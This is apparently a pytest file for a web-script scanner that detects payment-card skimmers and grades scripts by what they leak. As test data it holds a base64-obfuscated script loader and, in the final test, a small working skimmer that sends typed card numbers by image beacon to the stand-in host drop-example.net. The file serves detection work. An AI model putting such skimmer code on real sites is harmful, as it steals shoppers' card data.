"""What running and reading a script shows, and which level that is."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from content import examination
from content.behaviour import FOREIGN, OWN, PAYMENT, Behaviour, Leak
from content.examination import LARGEST, examine

QUIET = Behaviour(ran=True, survived=True)
PLAIN = b"var a = 1;"
HIDDEN = b"var s = document.createElement('script'); s.src = atob('%s')" % base64.b64encode(
    b"https://drop-example.net/a.js"
)


def leak(what: str = "card number", whose: str = FOREIGN, to: str = "drop-example.net", **more: Any) -> Leak:
    given = {
        "page": "checkout",
        "how": "image",
        "at": "1:7",
        "encoded": True,
        "url": f"https://{to}/c",
        **more,
    }
    return Leak(to=to, what=what, whose=whose, **given)


@pytest.fixture
def seen(monkeypatch):
    """What the card test is to have seen."""

    def see(behaviour: Behaviour) -> None:
        monkeypatch.setattr(examination, "observe", lambda script, url, seconds: behaviour)

    see(QUIET)
    return see


@pytest.mark.parametrize(
    ("behaviour", "level"),
    [
        (QUIET, "info"),
        (Behaviour(ran=False, survived=False), "info"),
        (Behaviour(True, True, leaks=(leak(),)), "malicious"),
        (Behaviour(True, True, leaks=(leak("security code"),)), "malicious"),
        (Behaviour(True, True, leaks=(leak("password"),)), "malicious"),
        (Behaviour(True, False, leaks=(leak(),)), "malicious"),
        (Behaviour(True, True, leaks=(leak("e-mail"),)), "info"),
        (Behaviour(True, True, leaks=(leak("expiry"),)), "info"),
        (Behaviour(True, True, leaks=(leak(whose=PAYMENT, to="api.stripe.com"),)), "info"),
        (Behaviour(True, True, leaks=(leak(whose=OWN, to="shop.example"),)), "info"),
        (Behaviour(True, True, reads=("card number",)), "info"),
        (Behaviour(True, True, reads=("card number",), hosts=("drop-example.net",)), "suspicious"),
        (Behaviour(True, True, reads=("name",), hosts=("drop-example.net",)), "info"),
    ],
)
def test_what_the_card_test_saw_makes_the_level(seen, behaviour, level):
    seen(behaviour)
    assert examine(PLAIN, None, 20).level == level


def test_signs_alone_are_suspicious_and_never_malicious(seen):
    found = examine(HIDDEN, None, 20)
    assert found.level == "suspicious"
    assert found.hidden_hosts == ("drop-example.net",)


def test_proof_outweighs_signs_and_both_are_told(seen):
    seen(Behaviour(True, True, leaks=(leak(), leak("security code"), leak("name"))))
    found = examine(HIDDEN, None, 20)
    assert found.level == "malicious"
    assert found.sentences[0] == (
        "The card number and security code that a visitor types leave for drop-example.net, a stranger's "
        "host, by image, encoded (line 1, column 7 of the code)."
    )
    assert any("loads code from a host that it hides" in sentence for sentence in found.sentences)
    assert any(
        sentence.startswith("The name that a visitor types leaves for") for sentence in found.sentences
    )


def test_silence_clears_nothing_and_says_so(seen):
    for behaviour in (QUIET, Behaviour(False, True), Behaviour(False, False, notes=("It broke.",))):
        seen(behaviour)
        found = examine(PLAIN, None, 20)
        assert found.level == "info"
        assert "clears nothing" in found.sentences[-1]
    assert any("did not survive" in sentence for sentence in found.sentences)


def test_the_data_are_those_of_the_contract(seen):
    seen(Behaviour(True, True, reads=("card number",), leaks=(leak(),)))
    behaviour = json.loads(json.dumps(examine(HIDDEN, None, 20).behaviour))
    assert set(behaviour) == {"ran", "reads", "leaks", "signs"}
    assert behaviour["ran"] is True
    assert behaviour["reads"] == ["card number"]
    assert {"to": "drop-example.net", "how": "image", "what": "card number"}.items() <= behaviour["leaks"][
        0
    ].items()
    assert {sign["id"] for sign in behaviour["signs"]} >= {"hidden-host", "loads-script"}


def test_a_host_that_only_running_shows_is_hidden(seen):
    seen(Behaviour(True, True, hosts=("drop-example.net", "a.plain-example.com")))
    assert examine(b"go('https://' + x + '.plain-example.com')", None, 20).hidden_hosts == (
        "drop-example.net",
    )


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_a_byte_order_mark_is_heeded(seen, encoding):
    assert examine(HIDDEN.decode().encode(encoding), None, 20).level == "suspicious"


def test_what_is_too_long_is_said_not_to_have_been_looked_at(seen, monkeypatch):
    monkeypatch.setattr(examination, "LARGEST", 1_000)
    found = examine(b" " * 2_000, None, 20)
    assert any("first 1,000 of 2,000 bytes" in sentence for sentence in found.sentences)
    assert LARGEST > 1_000_000


def test_a_skimmer_of_our_own_is_read_and_run():
    """No stand-in: the engine runs it."""
    script = b"""
    document.addEventListener('click', function () {
      var n = document.querySelector('[name="payment[cc_number]"]');
      if (n && n.value) new Image().src = atob('%s') + '?d=' + btoa(n.value);
    });""" % base64.b64encode(b"https://drop-example.net/c")
    found = examine(script, "https://cdn.example.net/a.js", 45)
    assert found.level == "malicious"
    assert found.behaviour["leaks"][0]["to"] == "drop-example.net"
    assert found.hidden_hosts == ("drop-example.net",)
